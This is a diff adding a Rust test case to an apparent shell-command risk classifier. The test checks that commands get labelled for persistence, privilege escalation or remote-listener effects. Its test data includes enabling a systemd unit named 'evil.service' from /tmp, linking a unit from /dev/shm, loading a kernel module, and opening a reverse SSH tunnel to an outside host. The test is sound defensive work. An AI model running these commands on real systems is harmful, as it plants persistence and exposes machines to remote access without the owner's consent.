@@ -129,3 +129,18 @@ fn package_runners_run_their_command_option() {
     flows("npx prettier --check .");
     flows("npm exec -- jest");
 }
+
+#[test]
+fn enabling_an_installed_unit_is_administration_but_a_unit_from_a_path_is_persistence() {
+    use super::tests_support::verdict;
+    attack(
+        "systemctl enable --now /tmp/evil.service",
+        Effect::Persistence,
+    );
+    attack("systemctl link /dev/shm/x.service", Effect::Persistence);
+    attack("systemctl enable nginx", Effect::SystemChange);
+    assert_eq!(verdict("systemctl enable nginx"), Decision::RequireApproval);
+    assert_eq!(verdict("modprobe -r nouveau"), Decision::RequireApproval);
+    attack("modprobe br_netfilter", Effect::PrivilegeEscalation);
+    attack("ssh -R 4444:localhost:22 ops@203.0.113.9", Effect::Listener);
+}
